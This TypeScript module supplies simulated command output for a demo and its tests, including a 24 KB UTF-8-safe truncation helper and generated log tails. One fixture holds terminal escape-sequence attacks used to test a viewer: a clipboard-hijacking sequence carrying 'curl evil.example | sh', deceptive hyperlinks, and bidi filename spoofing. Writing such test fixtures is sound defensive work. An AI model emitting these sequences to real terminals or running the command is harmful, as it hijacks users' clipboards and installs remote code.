// Output text the simulated commands print: realistic for the demo, hostile where tests need it,
// and the 24 KB cut the service applies (`Dropped` counts what was cut).

/** The service keeps at most 24 KB of output per instance run. */
export const OUTPUT_LIMIT_BYTES = 24 * 1024;

/** Cut output at 24 KB on a UTF-8 character boundary; `dropped` is the number of bytes cut. */
export function cutOutput(full: Buffer): { kept: Buffer; dropped: number } {
  if (full.length <= OUTPUT_LIMIT_BYTES) return { kept: full, dropped: 0 };
  const end = utf8Boundary(full, OUTPUT_LIMIT_BYTES);
  return { kept: full.subarray(0, end), dropped: full.length - end };
}

/** The largest index <= `at` that does not split a UTF-8 sequence (continuation bytes are 10xxxxxx). */
export function utf8Boundary(buf: Buffer, at: number): number {
  if (at >= buf.length) return buf.length;
  let i = at;
  // Back off at most 3 continuation bytes; invalid input (long runs of them) is cut as is.
  for (let k = 0; k < 3 && i > 0 && (buf[i] & 0xc0) === 0x80; k++) i--;
  return (buf[i] & 0xc0) === 0x80 ? at : i;
}

const ESC = '\x1b';
const BEL = '\x07';

/**
 * Output an attacker could print: OSC 52 (clipboard), OSC 0 (title), OSC 8 (hyperlink), CSI cursor
 * moves and screen clears, backspaces over text, `\r` progress bars, bidi overrides, zero-width
 * characters, C1 controls, CJK and emoji. A safe viewer shows the text and applies none of it.
 */
export const HOSTILE_OUTPUT = [
  'starting maintenance job',
  `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}clipboard was set`,
  `${ESC}]0;pwned title${BEL}title was set`,
  `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\ (hyperlink)`,
  `${ESC}[2J${ESC}[H${ESC}[31mred after clear${ESC}[0m`,
  `${ESC}[5A${ESC}[10Ccursor moved up${ESC}[s${ESC}[u`,
  'password: hunter2\b\b\b\b\b\b\b*******',
  'progress:  10%\rprogress:  50%\rprogress: 100%',
  'bidi: \u202Eevil.exe\u202C txt.exe, isolate \u2067abc\u2069',
  'zero\u200Bwidth\u200Djoin\uFEFFbom',
  '\x9b31mC1 CSI\x9b0m and \x90DCS payload\x9c',
  `${ESC}P1$r0m${ESC}\\DCS, ${ESC}_APC payload${ESC}\\, ${ESC}^PM${ESC}\\`,
  '中文输出：部署完成 ✅ 🚀 👩‍💻 🇨🇳',
  'tab\tseparated\tcolumns and a bell\x07 and DEL\x7f',
  'done',
  '',
].join('\n');

/** Wide characters, emoji with modifiers and joiners, combining marks. */
export const CJK_OUTPUT = [
  '系统巡检报告 (System inspection report)',
  '主机名: web-01    状态: 正常 ✅',
  '磁盘使用率: 42%   内存: 3.1G/7.6G',
  '日本語のログ: 処理が完了しました 🎉',
  '한국어 로그: 작업 완료 👍🏽',
  'Emoji: 🚀 🔥 👩‍👩‍👧‍👦 🏳️‍🌈 1️⃣',
  'Combining: e\u0301 a\u0308 n\u0303',
  'Fullwidth: ＡＢＣ１２３',
  '',
].join('\n');

/** Deterministic log lines until `bytes` is reached (a long `tail -n` of an application log). */
export function logTail(bytes: number, seed: number, from = Date.UTC(2026, 10, 27, 0, 0, 0)): string {
  const levels = ['INFO ', 'INFO ', 'INFO ', 'DEBUG', 'WARN ', 'ERROR'];
  const msgs = [
    'GET /api/v1/orders 200 12ms',
    'POST /api/v1/checkout 201 87ms',
    'cache miss key=user:%d, loading from db',
    'connection pool size=%d idle=3',
    'slow query took %dms: SELECT * FROM orders WHERE status = ?',
    'retrying upstream call attempt=%d',
    'worker %d heartbeat ok',
    'GET /healthz 200 1ms',
  ];
  const lines: string[] = [];
  let size = 0;
  let s = seed >>> 0;
  let t = from;
  // Time stamps as toISOString writes them, the date part once per day: a Date per line was
  // most of the cost, and the demo's first listing builds dozens of these tails.
  let dayStart = 0;
  let dayEnd = -Infinity;
  let day = '';
  for (let i = 0; size < bytes; i++) {
    s = (Math.imul(s ^ (s >>> 13), 0x5bd1e995) + i) >>> 0;
    t += (s % 900) + 100;
    if (t >= dayEnd || t < dayStart) {
      dayStart = t - (((t % DAY_MS) + DAY_MS) % DAY_MS);
      dayEnd = dayStart + DAY_MS;
      day = new Date(dayStart).toISOString().slice(0, 11);
    }
    const ms = t - dayStart;
    const stamp = `${day}${two(Math.floor(ms / 3_600_000))}:${two(Math.floor(ms / 60_000) % 60)}:${two(Math.floor(ms / 1_000) % 60)}.${three(ms % 1_000)}Z`;
    const level = levels[s % levels.length];
    const msg = msgs[(s >>> 8) % msgs.length].replace('%d', String((s >>> 4) % 1000));
    const line = `${stamp} ${level} [app-${(s >>> 3) % 8}] ${msg}`;
    lines.push(line);
    size += line.length + 1;
  }
  return lines.join('\n') + '\n';
}

const DAY_MS = 86_400_000;
const two = (n: number): string => (n < 10 ? `0${n}` : String(n));
const three = (n: number): string => (n < 10 ? `00${n}` : n < 100 ? `0${n}` : String(n));
